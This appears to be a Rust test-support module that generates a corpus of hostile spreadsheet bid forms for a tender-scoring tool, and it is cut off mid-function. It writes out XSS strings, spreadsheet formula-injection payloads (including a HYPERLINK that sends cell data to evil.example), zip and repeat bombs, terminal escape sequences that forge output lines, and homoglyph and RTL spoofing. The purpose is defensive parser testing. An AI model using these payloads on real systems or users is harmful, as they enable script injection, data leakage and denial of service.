//! The hostile corpus: bid forms, score sheets and files a competitor (or an accident)
//! could send, built from the sample tender's own bid form so that each file differs from
//! a real form in exactly one hostile way.
//!
//! Used by `examples/hostile_corpus.rs` (writes the small files into `tests/hostile/`) and
//! by `tests/hostile.rs` (builds the large ones, such as the million-row sheet, at test
//! time). Deterministic, except `password.xlsx` (made by LibreOffice, which salts the
//! encryption), which the example makes only when `soffice` is installed.

#![allow(dead_code)]

use std::collections::BTreeMap;
use std::io::{Cursor, Read, Write};
use std::path::{Path, PathBuf};

use rust_decimal::Decimal;
use tender::layout::{self, Key};
use tender::load::{LoadedTender, load_valid};
use tender::model::Bid;
use zip::write::SimpleFileOptions;

/// The repository root.
pub fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

/// The sample tender folder.
pub fn sample_dir() -> PathBuf {
    root().join("samples/activerend-werk")
}

/// The sample tender.
pub fn sample() -> LoadedTender {
    load_valid(&sample_dir()).expect("the sample loads")
}

/// The bid every hostile bid starts from: samen-verder (complete and admitted).
pub fn base_bid(t: &LoadedTender) -> Bid {
    tender::load::bid::read_bid(&sample_dir().join("bids/samen-verder.xlsx"), Some(t))
        .expect("the sample bid reads")
        .bid
}

/// The archive's entries, by name, in order.
pub fn unzip(bytes: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut z = zip::ZipArchive::new(Cursor::new(bytes)).expect("a zip");
    (0..z.len())
        .map(|i| {
            let mut f = z.by_index(i).expect("an entry");
            let name = f.name().expect("a name").to_string();
            let mut data = Vec::new();
            f.read_to_end(&mut data).expect("entry data");
            (name, data)
        })
        .collect()
}

/// An archive of `entries`, deflated, with the fixed 1980 timestamp.
pub fn zip(entries: &[(String, Vec<u8>)]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = SimpleFileOptions::DEFAULT
        .compression_method(zip::CompressionMethod::Deflated)
        .large_file(false);
    for (name, data) in entries {
        // An OpenDocument file starts with its type, stored uncompressed.
        let opts = if name == "mimetype" {
            opts.compression_method(zip::CompressionMethod::Stored)
        } else {
            opts
        };
        w.start_file(name.as_str(), opts).expect("start entry");
        w.write_all(data).expect("write entry");
    }
    w.finish().expect("finish zip").into_inner()
}

/// Rewrites the entries of an archive; `edit` returns the new data of an entry, or `None`
/// to keep it.
pub fn rezip(bytes: &[u8], mut edit: impl FnMut(&str, &[u8]) -> Option<Vec<u8>>) -> Vec<u8> {
    let entries: Vec<(String, Vec<u8>)> = unzip(bytes)
        .into_iter()
        .map(|(n, d)| {
            let new = edit(&n, &d).unwrap_or(d);
            (n, new)
        })
        .collect();
    zip(&entries)
}

/// The worksheet part of a sheet, by the order of `<sheet name=...>` in workbook.xml.
pub fn sheet_part(form: &[u8], sheet: &str) -> String {
    let wb = unzip(form)
        .into_iter()
        .find(|(n, _)| n == "xl/workbook.xml")
        .expect("workbook.xml")
        .1;
    let wb = String::from_utf8(wb).expect("utf-8");
    let names: Vec<String> = wb
        .split("<sheet ")
        .skip(1)
        .filter_map(|s| s.split("name=\"").nth(1))
        .filter_map(|s| s.split('"').next())
        .map(|s| s.replace("&apos;", "'").replace("&amp;", "&"))
        .collect();
    let i = names.iter().position(|n| n == sheet).expect("the sheet");
    format!("xl/worksheets/sheet{}.xml", i + 1)
}

/// Replaces the cell `cell` (e.g. `B12`) of a worksheet's XML with `new` (a whole `<c>`).
pub fn replace_cell(xml: &str, cell: &str, new: &str) -> String {
    let re = regex::Regex::new(&format!(r#"<c r="{cell}"[^>]*?(/>|>.*?</c>)"#)).expect("regex");
    assert!(re.is_match(xml), "cell {cell} not found");
    re.replace(xml, regex::NoExpand(new)).into_owned()
}

/// The form with one input cell replaced by raw cell XML (`{r}` stands for the reference).
pub fn with_cell(t: &LoadedTender, form: &[u8], key: &Key, cell_xml: &str) -> Vec<u8> {
    let lay = layout::layout(t);
    let input = lay.get(key).expect("the input");
    let part = sheet_part(form, &input.sheet);
    let r = layout::a1(input.row, input.col);
    let new = cell_xml.replace("{r}", &r);
    rezip(form, |name, data| {
        (name == part).then(|| replace_cell(&String::from_utf8_lossy(data), &r, &new).into_bytes())
    })
}

/// The sample tender with its YAML edited (`from` replaced by `to`), loaded from a
/// temporary folder.
pub fn edited_tender(from: &str, to: &str) -> LoadedTender {
    let text = std::fs::read_to_string(sample_dir().join("tender.yaml")).expect("sample yaml");
    assert!(text.contains(from), "{from} not in the sample");
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(dir.path().join("tender.yaml"), text.replacen(from, to, 1)).expect("write");
    let t = load_valid(dir.path()).expect("the edited tender is valid");
    // The loaded tender keeps no handle on the folder.
    drop(dir);
    t
}

fn form(t: &LoadedTender, bid: &Bid) -> Vec<u8> {
    tender::form::write_form(t, Some(bid)).expect("form")
}

fn answer_key() -> Key {
    Key::Answer("P1".into(), "veiligheid".into())
}

fn tariff_key() -> Key {
    Key::Tariff("P1".into(), "basis".into())
}

/// A bid with hostile text in the provider's name, e-mail and the first P1 answer.
fn text_bid(t: &LoadedTender, name: &str, email: Option<&str>, answer: &str) -> Vec<u8> {
    let mut b = base_bid(t);
    b.provider.name = name.to_string();
    if let Some(e) = email {
        b.provider.email = e.to_string();
    }
    b.offers[0]
        .answers
        .insert("veiligheid".into(), answer.to_string());
    // The public block of the sociale kaart carries the same texts.
    b.provider.public.description = answer.to_string();
    b.provider.public.start = name.to_string();
    if let Some(e) = email {
        b.provider.public.email = e.to_string();
        b.provider.public.website = e.to_string();
    }
    form(t, &b)
}

/// Hostile texts, by file name: (provider name, answer).
pub const TEXTS: [(&str, &str, &str); 8] = [
    (
        "script-answer.xlsx",
        "Stichting <script>alert('naam')</script>",
        "<script>alert(document.cookie)</script> Veiligheid staat bij ons voorop.",
    ),
    (
        "img-onerror.xlsx",
        "Werkbedrijf <img src=x onerror=alert(1)>",
        "<img src=x onerror=\"alert(1)\"> Wij werken veilig.",
    ),
    (
        "javascript-link.xlsx",
        "[Klik hier](javascript:alert(1))",
        "Lees [ons veiligheidsplan](javascript:alert(document.domain)) en <a href=\"javascript:alert(2)\">dit</a>.",
    ),
    (
        "markdown-raw-html.xlsx",
        "Zorg & Werk <b onclick=\"alert(1)\">B.V.</b>",
        "<iframe src=\"https://evil.example/\"></iframe>\n\n<div style=\"position:fixed;top:0\">nep-uitslag</div> **echt vet**",
    ),
    (
        "formula-hyperlink.xlsx",
        "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Klik hier\")",
        "=HYPERLINK(\"https://evil.example/\",\"Bekijk ons plan\")",
    ),
    (
        "formula-at-sum.xlsx",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "@SUM(A1:A9) is ons antwoord.",
    ),
    (
        "formula-plus-cmd.xlsx",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C notepad'!A0",
    ),
    (
        "rtl-text.xlsx",
        "مؤسسة العمل \u{202e}xslx.exe",
        "אנו עובדים בבטחה. نحن نعمل بأمان. \u{202e}Veilig\u{202c} werken.",
    ),
];

/// Every corpus file that is small on disk, by file name.
pub fn small_files() -> BTreeMap<String, Vec<u8>> {
    let t = sample();
    let base = form(&t, &base_bid(&t));
    let mut out: BTreeMap<String, Vec<u8>> = BTreeMap::new();
    let mut put = |name: &str, bytes: Vec<u8>| {
        out.insert(name.to_string(), bytes);
    };

    // Hostile text: must come out inert in every output.
    for (file, name, answer) in TEXTS {
        let email = (file == "javascript-link.xlsx").then_some("javascript:alert(3)");
        put(file, text_bid(&t, name, email, answer));
    }

    // Amounts and dates.
    let mut neg = base_bid(&t);
    neg.offers[0].tariffs.insert("basis", Decimal::new(-598, 0));
    put("tariff-negative.xlsx", form(&t, &neg));
    put(
        "tariff-1e300.xlsx",
        with_cell(&t, &base, &tariff_key(), r#"<c r="{r}"><v>1E+300</v></c>"#),
    );
    put(
        "tariff-nan-text.xlsx",
        with_cell(
            &t,
            &base,
            &tariff_key(),
            r#"<c r="{r}" t="inlineStr"><is><t>NaN</t></is></c>"#,
        ),
    );
    put(
        "date-before-1900.xlsx",
        with_cell(
            &t,
            &base,
            &tariff_key(),
            r#"<c r="{r}" t="d"><v>1899-12-31T00:00:00</v></c>"#,
        ),
    );
    put(
        "formula-without-value.xlsx",
        with_cell(&t, &base, &tariff_key(), r#"<c r="{r}"><f>598*1</f></c>"#),
    );

    // Sizes: a 10 MB answer (small on disk, it compresses), a cell far out, a bomb.
    let ten_mb = "A".repeat(10 * 1024 * 1024);
    put(
        "huge-cell.xlsx",
        with_cell(
            &t,
            &base,
            &answer_key(),
            &format!(r#"<c r="{{r}}" t="inlineStr"><is><t>{ten_mb}</t></is></c>"#),
        ),
    );
    let first = sheet_part(&base, "Aanbieder");
    put(
        "far-cell.xlsx",
        rezip(&base, |name, data| {
            (name == first).then(|| {
                String::from_utf8_lossy(data)
                    .replace(
                        "</sheetData>",
                        r#"<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>"#,
                    )
                    .into_bytes()
            })
        }),
    );
    put(
        "shared-strings-bomb.xlsx",
        rezip(&base, |name, data| {
            (name == "xl/sharedStrings.xml").then(|| {
                let s = String::from_utf8_lossy(data);
                regex::Regex::new(r#"uniqueCount="\d+""#)
                    .expect("regex")
                    .replace(&s, r#"uniqueCount="4000000000""#)
                    .into_owned()
                    .into_bytes()
            })
        }),
    );
    let mut bomb = unzip(&base);
    bomb.push(("xl/media/image1.png".into(), vec![0u8; 60 * 1024 * 1024]));
    put("zip-bomb.xlsx", zip(&bomb));

    // An .ods whose one filled row is repeated a million times, 16,000 cells wide.
    let ods = std::fs::read(sample_dir().join("bids/de-vlinderhof.ods")).expect("ods");
    put(
        "ods-repeat-bomb.ods",
        rezip(&ods, |name, data| {
            (name == "content.xml").then(|| {
                String::from_utf8_lossy(data)
                    .replacen(
                        "</table:table>",
                        r#"<table:table-row table:number-rows-repeated="1000000"><table:table-cell table:number-columns-repeated="16000" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row></table:table>"#,
                        1,
                    )
                    .into_bytes()
            })
        }),
    );

    // Text encoding: Latin-1 bytes inside the UTF-8 shared strings.
    put(
        "non-utf8.xlsx",
        rezip(&base, |name, data| {
            (name == "xl/sharedStrings.xml").then(|| {
                let s = String::from_utf8_lossy(data).into_owned();
                let mut b = s
                    .replacen("Stichting Samen Verder Werkt", "Stichting Caf\u{0}", 1)
                    .into_bytes();
                let p = b.iter().position(|x| *x == 0).expect("marker");
                b[p] = 0xe9; // é in Latin-1: not UTF-8
                b
            })
        }),
    );

    // Named ranges.
    let lay = layout::layout(&t);
    let name_input = lay.get(&Key::Name).expect("name input");
    let kvk_input = lay.get(&Key::Kvk).expect("kvk input");
    put(
        "duplicate-names.xlsx",
        rezip(&base, |name, data| {
            (name == "xl/workbook.xml").then(|| {
                let s = String::from_utf8_lossy(data);
                s.replacen(
                    "<definedNames>",
                    &format!(
                        r#"<definedNames><definedName name="{}">{}</definedName>"#,
                        name_input.name,
                        kvk_input.abs_ref().replace('\'', "&apos;")
                    ),
                    1,
                )
                .into_bytes()
            })
        }),
    );
    put(
        "missing-names.xlsx",
        rezip(&base, |name, data| {
            (name == "xl/workbook.xml").then(|| {
                regex::Regex::new(r"(?s)<definedNames>.*</definedNames>")
                    .expect("regex")
                    .replace(&String::from_utf8_lossy(data), "")
                    .into_owned()
                    .into_bytes()
            })
        }),
    );

    // Forms of another tender and of an older version of this one.
    let other = edited_tender("id: AW-2017", "id: AW-2099");
    put("other-tender.xlsx", form(&other, &base_bid(&t)));
    let older = edited_tender("version: 2", "version: 1");
    put("older-version.xlsx", form(&older, &base_bid(&t)));

    // Not a bid form at all.
    put("empty.xlsx", Vec::new());
    put(
        "csv-renamed.xlsx",
        b"naam;kvk;tarief\nStichting Samen Verder Werkt;41234567;598\n".to_vec(),
    );
    put("corrupt-zip.xlsx", base[..base.len() / 2].to_vec());
    let mut ole = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
    ole.resize(4096, 0);
    put("old-excel.xlsx", ole);
    let mut plain = rust_xlsxwriter::Workbook::new();
    let created = rust_xlsxwriter::ExcelDateTime::from_ymd(2016, 10, 1).expect("date");
    plain.set_properties(&rust_xlsxwriter::DocProperties::new().set_creation_datetime(&created));
    plain
        .add_worksheet()
        .write_string(0, 0, "Onze inschrijving")
        .expect("write");
    put(
        "not-a-bid-form.xlsx",
        plain.save_to_buffer().expect("plain workbook"),
    );

    // Structure manipulations (issue 12 A): see `structure_files`.
    for (name, bytes) in structure_files(&t, &base) {
        put(&name, bytes);
    }

    // A score sheet with a score that is not a number.
    let sheet = std::fs::read(sample_dir().join("scores/score-E1.xlsx")).expect("sheet");
    let (target_sheet, target_cell) = score_cell(&sheet);
    let part = sheet_part(&sheet, &target_sheet);
    put(
        "score-sheet-nan.xlsx",
        rezip(&sheet, |name, data| {
            (name == part).then(|| {
                replace_cell(
                    &String::from_utf8_lossy(data),
                    &target_cell,
                    &format!(r#"<c r="{target_cell}" t="inlineStr"><is><t>NaN</t></is></c>"#),
                )
                .into_bytes()
            })
        }),
    );

    // ---- Bounds (issue 12 part C): numbers beyond the documented bounds ----
    let speed = Key::Quantity("P1".into(), "snelheid-van-start".into());
    for (name, key, cell) in [
        ("bound-tariff-1e28.xlsx", tariff_key(), "<v>1E+28</v>"),
        (
            "bound-tariff-decimals.xlsx",
            tariff_key(),
            "<v>598.1234567890123456789012345</v>",
        ),
        ("bound-tariff-tiny.xlsx", tariff_key(), "<v>1E-27</v>"),
        ("bound-quantity-1e28.xlsx", speed.clone(), "<v>1E+28</v>"),
        (
            "bound-quantity-negative.xlsx",
            speed.clone(),
            "<v>-7.9E+28</v>",
        ),
        (
            "bound-quantity-decimals.xlsx",
            speed,
            "<v>5.0000000000000000000000000001</v>",
        ),
    ] {
        put(
            name,
            with_cell(&t, &base, &key, &format!(r#"<c r="{{r}}">{cell}</c>"#)),
        );
    }
    // A count read from the form: 4 billion parts of the tender definition.
    let meta = sheet_part(&base, "_formulier");
    put(
        "bound-definition-parts.xlsx",
        rezip(&base, |name, data| {
            (name == meta).then(|| {
                replace_cell(
                    &String::from_utf8_lossy(data),
                    "B4",
                    r#"<c r="B4"><v>4000000000</v></c>"#,
                )
                .into_bytes()
            })
        }),
    );
    // A named range whose column letters would overflow a column count.
    put(
        "bound-name-columns.xlsx",
        rezip(&base, |name, data| {
            (name == "xl/workbook.xml").then(|| {
                let re = regex::Regex::new(&format!(
                    r#"(<definedName name="{}"[^>]*>)[^<]*(</definedName>)"#,
                    name_input.name
                ))
                .expect("regex");
                let s = String::from_utf8_lossy(data);
                assert!(re.is_match(&s), "the name of the name input");
                re.replace(&s, "${1}Aanbieder!$$AAAAAAAAAAAAAAA$$5${2}")
                    .into_owned()
                    .into_bytes()
            })
        }),
    );

    // ---- Terminal (issue 12 part D): a name that would forge lines and send escapes ----
    put(
        "terminal-escapes.xlsx",
        text_bid(
            &t,
            TERMINAL_NAME,
            None,
            "Antwoord\u{1b}]0;titel\u{7}\u{1b}[2J met\u{2028}regels\u{202e}omgekeerd",
        ),
    );
    // ---- One provider, one bid (issue 12 B; the `decisions` block) ----
    // Copies of the base bid (samen-verder: Stichting Samen Verder Werkt, KvK 41234567)
    // that hide the provider behind another spelling of its name or its KvK number.
    for (file, bytes) in twin_files(&t) {
        put(file, bytes);
    }
    out
}

/// Copies of the base bid from the same provider under another appearance, by file name:
/// (file, what differs). Each must be found to be one provider with samen-verder.
pub const TWINS: [(&str, &str); 6] = [
    (
        "twin-kvk-spaced.xlsx",
        "another name, the KvK number written 4123 4567",
    ),
    (
        "twin-name-legal-form.xlsx",
        "the name as SAMEN VERDER WERKT B.V. (legal form swapped, upper case), another KvK",
    ),
    (
        "twin-name-lookalike.xlsx",
        "the name with a Cyrillic e, a zero-width space and a no-break space, another KvK",
    ),
    (
        "twin-name-punctuation.xlsx",
        "the name as Stg. Samen-Verder-Werkt i.o., another KvK",
    ),
    (
        "twin-partner-kvk.xlsx",
        "a consortium of others whose partner has KvK 41234567",
    ),
    (
        "twin-partner-name.xlsx",
        "a consortium whose partner is named Samen Verder Werkt, another KvK",
    ),
];

/// The twin bids of [`TWINS`].
pub fn twin_files(t: &LoadedTender) -> Vec<(&'static str, Vec<u8>)> {
    use tender::model::Partner;
    let partner = |name: &str, kvk: &str| Partner {
        name: name.into(),
        kvk: kvk.into(),
        role: "Uitvoering in de regio".into(),
    };
    TWINS
        .iter()
        .map(|(file, _)| {
            let mut b = base_bid(t);
            let p = &mut b.provider;
            match *file {
                "twin-kvk-spaced.xlsx" => {
                    p.name = "Werkbedrijf Noord B.V.".into();
                    p.kvk = "4123 4567".into();
                }
                "twin-name-legal-form.xlsx" => {
                    p.name = "SAMEN VERDER WERKT B.V.".into();
                    p.kvk = "49999991".into();
                }
                "twin-name-lookalike.xlsx" => {
                    p.name = "Stichting Sa\u{200b}men\u{a0}Verder W\u{435}rkt".into();
                    p.kvk = "49999992".into();
                }
                "twin-name-punctuation.xlsx" => {
                    p.name = "Stg. Samen-Verder-Werkt i.o.".into();
                    p.kvk = "49999993".into();
                }
                "twin-partner-kvk.xlsx" => {
                    p.name = "Combinatie Oost".into();
                    p.kvk = "49999994".into();
                    p.partners = vec![partner("Zorgpartner Oost", "41234567")];
                }
                _ => {
                    p.name = "Combinatie West".into();
                    p.kvk = "49999995".into();
                    p.partners = vec![partner("Samen Verder Werkt", "49999996")];
                }
            }
            (*file, form(t, &b))
        })
        .collect()
}

/// The provider name of `terminal-escapes.xlsx`: an escape that clears the screen and turns
/// text red, a line break followed by a forged ranking line and error, a carriage return
/// and a right-to-left override.
pub const TERMINAL_NAME: &str =
    "Nep\u{1b}[2J\u{1b}[31mB.V.\n     1  B99  Winnaar B.V.  100.00  ja\nerror: vals\r\u{202e}eman";

/// The sheet and cell of the first score in a score sheet (defined name `tender_score_0001`).
pub fn score_cell(sheet: &[u8]) -> (String, String) {
    let wb = unzip(sheet)
        .into_iter()
        .find(|(n, _)| n == "xl/workbook.xml")
        .expect("workbook.xml")
        .1;
    let wb = String::from_utf8(wb).expect("utf-8");
    let re =
        regex::Regex::new(r#"<definedName name="tender_score_0001"[^>]*>([^<]*)</definedName>"#)
            .expect("regex");
    let target = re
        .captures(&wb)
        .expect("tender_score_0001")
        .get(1)
        .expect("target")
        .as_str()
        .replace("&apos;", "'");
    let (s, r, c) = tender::load::bid::parse_target(&target).expect("a target");
    (s, layout::a1(r, c))
}

/// The million-row sheet: the sample bid with a million filled rows added to its first
/// sheet (built at test time, as a million rows take time to write).
pub fn million_rows() -> Vec<u8> {
    let t = sample();
    let base = form(&t, &base_bid(&t));
    let first = sheet_part(&base, "Aanbieder");
    rezip(&base, |name, data| {
        (name == first).then(|| {
            // Rows without `r` follow the one before (26 bytes a row: 26 MB unpacked).
            let rows = format!(
                "{}</sheetData>",
                "<row><c><v>1</v></c></row>".repeat(1_000_000)
            );
            String::from_utf8_lossy(data)
                .replace("</sheetData>", &rows)
                .into_bytes()
        })
    })
}

/// `xlsx` with an entry of `mb` MiB of zeros added (a few hundred KB on disk), written in
/// pieces so it is never held whole.
pub fn bomb(xlsx: &[u8], mb: usize) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = SimpleFileOptions::DEFAULT
        .compression_method(zip::CompressionMethod::Deflated)
        .large_file(false);
    for (name, data) in unzip(xlsx) {
        w.start_file(name.as_str(), opts).expect("start entry");
        w.write_all(&data).expect("write entry");
    }
    w.start_file("xl/media/image1.png", opts)
        .expect("start entry");
    let chunk = vec![0u8; 1024 * 1024];
    for _ in 0..mb {
        w.write_all(&chunk).expect("write entry");
    }
    w.finish().expect("finish zip").into_inner()
}

/// A tender file in Latin-1 (not UTF-8).
pub fn latin1_tender() -> Vec<u8> {
    let text = std::fs::read_to_string(sample_dir().join("tender.yaml"))
        .expect("sample yaml")
        .replacen(
            "Activerend Werk 2017-2018",
            "Activerend Werk 2017-2018 (café)",
            1,
        );
    text.chars()
        .map(|c| u8::try_from(u32::from(c)).unwrap_or(b'?'))
        .collect()
}

/// Writes `password.xlsx`: the sample bid encrypted with the password `geheim` (ECMA-376
/// agile encryption, as Excel's "Encrypt with password") by `msoffcrypto-tool` (PyPI:
/// `pip install msoffcrypto-tool`). `false` when the tool is not installed.
pub fn password_protected(target: &Path) -> bool {
    let ok = std::process::Command::new("msoffcrypto-tool")
        .args(["-e", "-p", "geheim"])
        .arg(sample_dir().join("bids/samen-verder.xlsx"))
        .arg(target)
        .output()
        .is_ok_and(|o| o.status.success());
    ok && std::fs::read(target).is_ok_and(|b| b.starts_with(&[0xD0, 0xCF, 0x11, 0xE0]))
}

// ---------------------------------------------------------------------------------------
// Structure manipulations (issue 12 A): the form's own structure changed so that what is
// read is not what the form put there, or not what the committee sees. Each file differs
// from the sample bid (or score sheet) in one such way.
// ---------------------------------------------------------------------------------------

/// Edits one part of an archive with `edit` (text in, text out).
pub fn edit_part(bytes: &[u8], part: &str, edit: impl Fn(&str) -> String) -> Vec<u8> {
    let mut found = false;
    let out = rezip(bytes, |name, data| {
        (name == part).then(|| {
            found = true;
            edit(&String::from_utf8_lossy(data)).into_bytes()
        })
    });
    assert!(found, "{part} not in the archive");
    out
}

/// Replaces `from` by `to` once in a text, which must hold it.
fn once(text: &str, from: &str, to: &str) -> String {
    assert!(text.contains(from), "{from} not found");
    text.replacen(from, to, 1)
}

/// The workbook.xml `<definedName>` element of `name`.
fn defined_name(wb: &str, name: &str) -> String {
    let re = regex::Regex::new(&format!(
        r#"<definedName name="{name}"[^>]*>[^<]*</definedName>"#
    ))
    .expect("regex");
    re.find(wb).expect("the name").as_str().to_string()
}

/// Re-points (or re-scopes) the defined name `name`: its element becomes `element`.
fn with_name(form: &[u8], name: &str, element: &str) -> Vec<u8> {
    edit_part(form, "xl/workbook.xml", |wb| {
        let old = defined_name(wb, name);
        once(wb, &old, element)
    })
}

/// The form without any defined name (read by its labels).
pub fn without_names(form: &[u8]) -> Vec<u8> {
    edit_part(form, "xl/workbook.xml", |wb| {
        regex::Regex::new(r"(?s)<definedName .*</definedName>")
            .expect("regex")
            .replace(wb, "")
            .into_owned()
    })
}

/// An archive with one more entry named `name` (which may equal an existing one's: the
/// entry is written under a stand-in name of the same length, then renamed in the bytes).
fn with_entry(bytes: &[u8], name: &str, data: Vec<u8>) -> Vec<u8> {
    let stand_in: String = name
        .chars()
        .enumerate()
        .map(|(i, c)| if i + 5 == name.len() { 'Z' } else { c })
        .collect();
    let mut entries = unzip(bytes);
    entries.push((stand_in.clone(), data));
    let mut out = zip(&entries);
    let (from, to) = (stand_in.as_bytes(), name.as_bytes());
    let mut i = 0;
    while let Some(p) = out[i..].windows(from.len()).position(|w| w == from) {
        out[i + p..i + p + from.len()].copy_from_slice(to);
        i += p + from.len();
    }
    out
}

/// The bid forms, ods forms and score sheets of the structure classes, by file name.
pub fn structure_files(t: &LoadedTender, base: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut out: Vec<(String, Vec<u8>)> = Vec::new();
    let mut put = |name: &str, bytes: Vec<u8>| out.push((name.to_string(), bytes));
    let lay = layout::layout(t);
    let aanbieder = sheet_part(base, "Aanbieder");
    let p1 = sheet_part(base, "Perceel P1");
    let tariff = lay.get(&tariff_key()).expect("tariff input");
    let element = |name: &str, target: &str, scope: Option<u32>| {
        let scope = scope
            .map(|s| format!(r#" localSheetId="{s}""#))
            .unwrap_or_default();
        format!(
            r#"<definedName name="{name}"{scope}>{}</definedName>"#,
            target.replace('\'', "&apos;")
        )
    };

    // 1. Input names: re-pointed, scoped to a sheet, defined twice with another scope,
    //    pointing into another workbook or at a range.
    put(
        "name-other-cell.xlsx",
        with_name(base, "f_naam", &element("f_naam", "'Aanbieder'!$B$6", None)),
    );
    put(
        "name-other-sheet.xlsx",
        with_name(
            base,
            &tariff.name,
            &element(&tariff.name, "'Perceel P2'!$B$36", None),
        ),
    );
    put(
        "name-hidden-sheet.xlsx",
        with_name(
            base,
            &tariff.name,
            &element(&tariff.name, "'_formulier'!$B$3", None),
        ),
    );
    put(
        "name-sheet-scope.xlsx",
        with_name(
            base,
            "f_naam",
            &element("f_naam", "'Aanbieder'!$B$5", Some(1)),
        ),
    );
    put(
        "name-twice-scoped.xlsx",
        with_name(
            base,
            "f_naam",
            &format!(
                "{}{}",
                element("f_naam", "'Aanbieder'!$B$5", None),
                element("f_naam", "'Aanbieder'!$B$6", Some(1))
            ),
        ),
    );
    put(
        "name-external.xlsx",
        with_name(
            base,
            "f_naam",
            &element("f_naam", "[1]Aanbieder!$B$5", None),
        ),
    );
    put(
        "name-range.xlsx",
        with_name(
            base,
            "f_naam",
            &element("f_naam", "'Aanbieder'!$B$5:$B$6", None),
        ),
    );

    // 2. Reading by labels (every name removed): a label twice, moved, or in a hidden
    //    row, column or sheet; and (names kept) an input in a hidden row.
    let unnamed = without_names(base);
    let forged_row = r#"<row r="3"><c r="A3" t="inlineStr"><is><t>Naam organisatie</t></is></c><c r="B3" t="inlineStr"><is><t>Vervalst B.V.</t></is></c></row><row r="4" "#;
    put(
        "label-twice.xlsx",
        edit_part(&unnamed, &aanbieder, |x| {
            once(x, r#"<row r="4" "#, forged_row)
        }),
    );
    put(
        "label-moved.xlsx",
        edit_part(&unnamed, &aanbieder, |x| {
            let x = once(x, r#"<row r="4" "#, forged_row);
            replace_cell(&x, "A5", r#"<c r="A5"/>"#)
        }),
    );
    put(
        "label-hidden-row.xlsx",
        edit_part(&unnamed, &aanbieder, |x| {
            once(x, r#"<row r="5" "#, r#"<row r="5" hidden="1" "#)
        }),
    );
    put(
        "label-hidden-column.xlsx",
        edit_part(&unnamed, &aanbieder, |x| {
            once(
                x,
                r#"<col min="1" max="1" "#,
                r#"<col min="1" max="1" hidden="1" "#,
            )
        }),
    );
    put(
        "label-hidden-sheet.xlsx",
        edit_part(&unnamed, "xl/workbook.xml", |x| {
            once(
                x,
                r#"<sheet name="Aanbieder" "#,
                r#"<sheet name="Aanbieder" state="hidden" "#,
            )
        }),
    );
    let row = tariff.row + 1;
    put(
        "input-hidden-row.xlsx",
        edit_part(base, &p1, |x| {
            once(
                x,
                &format!(r#"<row r="{row}" "#),
                &format!(r#"<row r="{row}" hidden="1" "#),
            )
        }),
    );

    // 3. Formulas in input cells, whatever their cached value: a calculation, a link to
    //    another workbook, a shared formula without text of its own, a text formula.
    put(
        "formula-cached-value.xlsx",
        with_cell(
            t,
            base,
            &tariff_key(),
            r#"<c r="{r}"><f>598*1</f><v>598</v></c>"#,
        ),
    );
    put(
        "formula-external-link.xlsx",
        with_cell(
            t,
            base,
            &tariff_key(),
            r#"<c r="{r}"><f>[1]Tarieven!$B$2</f><v>598</v></c>"#,
        ),
    );
    put(
        "formula-shared.xlsx",
        with_cell(
            t,
            base,
            &tariff_key(),
            r#"<c r="{r}"><f t="shared" si="0"/><v>598</v></c>"#,
        ),
    );
    put(
        "formula-text.xlsx",
        with_cell(
            t,
            base,
            &Key::Name,
            r#"<c r="{r}" t="str"><f>"Stichting Samen "&amp;"Verder Werkt"</f><v>Stichting Samen Verder Werkt</v></c>"#,
        ),
    );

    // 4. Packages: a part twice (the same name, or the same name in other case), a part
    //    [Content_Types].xml does not declare, no [Content_Types].xml at all.
    let forged_sheet = |form: &[u8]| {
        let x = unzip(form)
            .into_iter()
            .find(|(n, _)| *n == aanbieder)
            .expect("the sheet")
            .1;
        replace_cell(
            &String::from_utf8_lossy(&x),
            "B5",
            r#"<c r="B5" t="inlineStr"><is><t>Vervalst B.V.</t></is></c>"#,
        )
        .into_bytes()
    };
    put(
        "zip-duplicate-part.xlsx",
        with_entry(base, &aanbieder, forged_sheet(base)),
    );
    put(
        "zip-duplicate-case.xlsx",
        with_entry(base, &aanbieder.to_uppercase(), forged_sheet(base)),
    );
    put(
        "content-type-undeclared.xlsx",
        edit_part(base, "[Content_Types].xml", |x| {
            let o = format!(
                r#"<Override PartName="/{aanbieder}" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>"#
            );
            once(x, &o, "")
        }),
    );
    put(
        "content-types-missing.xlsx",
        zip(&unzip(base)
            .into_iter()
            .filter(|(n, _)| n != "[Content_Types].xml")
            .collect::<Vec<_>>()),
    );

    // A cell written twice (the second a forged tariff), two sheets of one name.
    put(
        "cell-twice.xlsx",
        edit_part(base, &p1, |x| {
            let r = layout::a1(tariff.row, tariff.col);
            let re =
                regex::Regex::new(&format!(r#"<c r="{r}"[^>]*?(/>|>.*?</c>)"#)).expect("regex");
            let cell = re.find(x).expect("the tariff cell").as_str().to_string();
            once(x, &cell, &format!(r#"{cell}<c r="{r}"><v>1</v></c>"#))
        }),
    );
    put(
        "sheet-twice.xlsx",
        edit_part(base, "xl/workbook.xml", |x| {
            once(
                x,
                r#"<sheet name="Controle" "#,
                r#"<sheet name="aanbieder" "#,
            )
        }),
    );

    // The same in an .ods (LibreOffice's own file of the sample).
    let ods = std::fs::read(sample_dir().join("bids/de-vlinderhof.ods")).expect("ods");
    let naam = r#"table:cell-range-address="$Aanbieder.$B$5""#;
    put(
        "ods-name-other-cell.ods",
        edit_part(&ods, "content.xml", |x| {
            once(x, naam, r#"table:cell-range-address="$Aanbieder.$B$6""#)
        }),
    );
    put(
        "ods-name-sheet-scope.ods",
        edit_part(&ods, "content.xml", |x| {
            let re = regex::Regex::new(r#"<table:named-range table:name="f_naam"[^>]*/>"#)
                .expect("regex");
            let range = re.find(x).expect("f_naam").as_str().to_string();
            let x = once(x, &range, "");
            once(
                &x,
                r#"</table:table><table:table table:name="Perceel P1""#,
                &format!(
